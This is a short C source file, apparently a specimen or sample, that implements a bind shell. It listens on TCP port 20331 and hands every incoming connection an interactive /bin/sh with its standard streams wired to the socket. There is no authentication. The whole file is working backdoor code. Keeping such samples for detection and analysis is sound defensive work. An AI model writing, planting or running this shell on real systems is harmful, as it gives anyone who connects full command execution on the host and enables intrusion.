/* SPDX-License-Identifier: GPL-2.0-or-later */
/* A shell whose input and output are a connection that came in. */
#include "specimen.h"

int main(void)
{
	struct sockaddr_in own = { .sin_family = AF_INET };
	own.sin_port = htons(20331);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&own, sizeof(own)) < 0 || listen(s, 1) < 0)
		return 1;
	for (;;) {
		int c = accept(s, NULL, NULL);
		if (c < 0)
			continue;
		if (fork() == 0) {
			for (int i = 0; i < 3; i++)
				dup2(c, i);
			execl("/bin/sh", "sh", "-i", (char *)0);
			_exit(127);
		}
		close(c);
	}
}
